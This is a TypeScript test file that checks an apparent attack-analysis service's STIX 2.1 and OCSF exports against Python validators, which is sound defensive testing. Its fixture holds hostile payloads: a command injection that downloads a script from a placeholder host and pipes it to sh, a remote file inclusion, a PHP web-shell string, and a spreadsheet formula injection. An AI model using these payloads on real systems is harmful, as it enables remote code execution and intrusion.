import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SessionInput } from '@aegis/model';
import { pythonWith, realProgramTest } from '@aegis/testing';
import { afterAll, beforeAll, expect } from 'vitest';
import { type RunningAegis, startAegis } from '../harness/aegis-process.ts';
import { analysed } from '../harness/analysed.ts';
import { pushSessions } from '../harness/push-sessions.ts';
import { attackOf } from '../harness/session-of.ts';

/** Others' readings of the standards that are exported. */
const PACKAGES = ['stix2==3.0.2', 'stix2-validator==3.2.0', 'py-ocsf-models==0.10.0'];

const STIX = `
import json, sys
import stix2
from stix2validator import ValidationOptions, validate_file
result = validate_file(sys.argv[1], ValidationOptions(version='2.1', strict=False))
bundle = stix2.parse(open(sys.argv[1], encoding='utf-8').read(), version='2.1')
addresses = [o for o in bundle.objects if o.type in ('ipv4-addr', 'ipv6-addr', 'network-traffic')]
again = {o.type: type(o) for o in addresses}
def remade(o):
    fields = {k: v for k, v in json.loads(o.serialize()).items() if k not in ('id', 'spec_version')}
    return again[o.type](**fields).id
print(json.dumps({
    'valid': result.is_valid,
    'errors': [str(e) for r in (result.object_results or []) for e in r.errors] if not result.is_valid else [],
    'types': sorted({o.type for o in bundle.objects}),
    'ids': [[o.id, remade(o)] for o in addresses],
}))
`;

const OCSF = `
import json, sys
from py_ocsf_models.events.findings.detection_finding import DetectionFinding
events = [json.loads(line) for line in open(sys.argv[1], encoding='utf-8')]
findings = [e for e in events if e['class_uid'] == 2004]
for each in findings: DetectionFinding.model_validate(each)
print(json.dumps({'events': len(events), 'findings': len(findings)}))
`;

let folder: string;
let node: RunningAegis;
let venv: ReturnType<typeof pythonWith> | undefined;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'aegis-exports-'));
  node = await startAegis({ dataDir: join(folder, 'data') });
  const strange = attackOf('strange \u0007\u202e"\\', '2001:db8::7');
  await pushSessions(node, [
    ...Array.from({ length: 20 }, (_, i) => graveAttack(`attack-${i}`, `198.51.100.${i % 5}`)),
    { ...strange, user_agent: '=cmd|"x"!A0\n\u2028' },
  ]);
  await analysed(node);
});
afterAll(async () => {
  await node.stop();
  rmSync(folder, { recursive: true, force: true });
  if (venv !== undefined) rmSync(venv.folder, { recursive: true, force: true });
});

/** Enough of it, and bad enough, for the level HIGH. */
function graveAttack(id: string, peer: string): SessionInput {
  const attack = attackOf(id, peer);
  const [first] = attack.requests ?? [];
  const paths = [
    first?.path ?? '/',
    '/ping?host=127.0.0.1;wget%20http://203.0.113.9/x.sh%20-O-|sh',
    '/index.php?page=http://203.0.113.9/shell.txt',
    '/?a=%3C%3Fphp%20system($_GET[%22c%22]);%3F%3E',
  ];
  const requests = Array.from({ length: 40 }, (_, i) => ({
    ...first,
    path: paths[i % paths.length] as string,
  }));
  return { ...attack, requests };
}

async function judged(format: string, script: string): Promise<Record<string, unknown>> {
  venv ??= pythonWith(PACKAGES);
  const response = await node.fetch(`/v1/sessions/export?format=${format}`);
  expect(response.status).toBe(200);
  const file = join(folder, `export.${format}`);
  writeFileSync(file, await response.text());
  const { stdout, stderr, status } = spawnSync(venv.python, ['-c', script, file], { encoding: 'utf8' });
  if (status !== 0) throw new Error(`${stderr}\n${readFileSync(file, 'utf8').slice(0, 500)}`);
  return JSON.parse(stdout) as Record<string, unknown>;
}

realProgramTest('python3', "an export is STIX 2.1 to OASIS's validator and library", async () => {
  const { valid, errors, types, ids } = await judged('stix', STIX);
  expect({ valid, errors }).toEqual({ valid: true, errors: [] });
  expect(types).toEqual([
    'attack-pattern',
    'identity',
    'indicator',
    'ipv4-addr',
    'ipv6-addr',
    'network-traffic',
    'observed-data',
    'relationship',
    'sighting',
  ]);
  const pairs = ids as [string, string][];
  expect(pairs.length).toBeGreaterThan(6);
  for (const [ours, theirs] of pairs.filter(([id]) => !id.startsWith('network-traffic')))
    expect(ours).toBe(theirs);
});

realProgramTest('python3', 'findings are OCSF Detection Findings to another reading of it', async () => {
  expect(await judged('ocsf', OCSF)).toEqual({ events: 42, findings: 21 });
});
